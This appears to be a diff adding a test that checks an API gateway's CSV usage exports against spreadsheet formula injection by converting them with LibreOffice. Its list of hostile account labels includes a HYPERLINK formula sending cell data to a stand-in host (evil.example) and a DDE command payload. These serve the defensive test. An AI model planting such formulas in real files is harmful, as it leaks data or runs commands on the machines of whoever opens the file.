@@ -1,0 +1,80 @@
+import { execFile } from 'node:child_process';
+import { existsSync, readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import t from 'tap';
+import { adminCall } from '../helpers/admin.js';
+import { ManualClock } from '../helpers/clock.js';
+import { NOW } from '../helpers/fixtures.js';
+import { startGateway } from '../helpers/gateway.js';
+
+const run = promisify(execFile);
+const SOFFICE = ['/usr/bin/soffice', '/usr/lib/libreoffice/program/soffice'].find((p) => existsSync(p));
+const SIMPLE = '/fuel-api/api/simple-current.php';
+
+// Labels a spreadsheet would read as formulas (OWASP "CSV injection"), and a harmless one.
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+  "+cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '-2+3',
+  '=1+1',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+/** The spreadsheet LibreOffice makes of a CSV file: the XML of its first sheet. */
+async function asSheet(dir: string, name: string, csv: string): Promise<string> {
+  const file = join(dir, `${name}.csv`);
+  writeFileSync(file, csv);
+  const profile = `file://${join(dir, 'lo-profile')}`;
+  await run(
+    SOFFICE as string,
+    [`-env:UserInstallation=${profile}`, '--headless', '--convert-to', 'xlsx', '--outdir', dir, file],
+    { timeout: 240_000, env: { ...process.env, HOME: dir } },
+  );
+  const xlsx = join(dir, `${name}.xlsx`);
+  // The sheet, then its shared strings (where LibreOffice puts text cells).
+  const { stdout } = await run('unzip', ['-p', xlsx, 'xl/worksheets/sheet1.xml', 'xl/sharedStrings.xml'], {
+    maxBuffer: 16 << 20,
+  });
+  return stdout;
+}
+
+t.test(
+  'no account label becomes a formula when an export is opened in a spreadsheet',
+  {
+    skip: SOFFICE ? false : 'LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui',
+    timeout: 600_000,
+  },
+  async (t) => {
+    const gw = await startGateway(t, {}, { clock: new ManualClock(NOW) });
+    const ids: string[] = [];
+    for (const label of [...HOSTILE, 'Acme, "Fleet"']) {
+      const made = await adminCall(gw, 'POST', '/admin/accounts', { plan: 'starter', label });
+      t.equal(made.status, 201);
+      ids.push(made.body.account.id);
+      t.equal((await gw.get(`${SIMPLE}?api_key=${made.body.api_key}`)).status, 200);
+    }
+    const day = new Date(NOW + 2 * 3600_000).toISOString().slice(0, 10);
+    const dir = t.testdir();
+    for (const path of ['/admin/usage', '/admin/usage/periods']) {
+      const csv = await adminCall(gw, 'GET', `${path}?from=${day}&to=${day}`);
+      t.equal(csv.status, 200);
+      const rows = (csv.body as string).split('\r\n');
+      t.ok(
+        ids.every((id) => rows.some((r) => r.startsWith(`${id},`))),
+        `${path}: a row of every account made here`,
+      );
+      const sheet = await asSheet(dir, path.replaceAll('/', '_'), csv.body as string);
+      t.match(sheet, /<sheetData>/, `${path}: LibreOffice read the export`);
+      t.notMatch(sheet, /<f[ >]/, `${path}: no cell is a formula`);
+      t.match(sheet, /Acme, &quot;Fleet&quot;|Acme, "Fleet"/, `${path}: a harmless label is kept as it is`);
+      t.match(sheet, /(&apos;|')=HYPERLINK\(/, `${path}: a hostile one is text, with the quote in front`);
+    }
+    t.same(readdirSync(dir).filter((f) => f.endsWith('.xlsx')).length, 2, 'both exports were converted');
+    const json = await adminCall(gw, 'GET', `/admin/usage?from=${day}&to=${day}&format=json`);
+    const labels = (json.body.rows as Array<{ label: string }>).map((r) => r.label).sort();
+    t.same(labels, [...HOSTILE, 'Acme, "Fleet"'].sort(), 'JSON keeps every label exactly');
+  },
+);
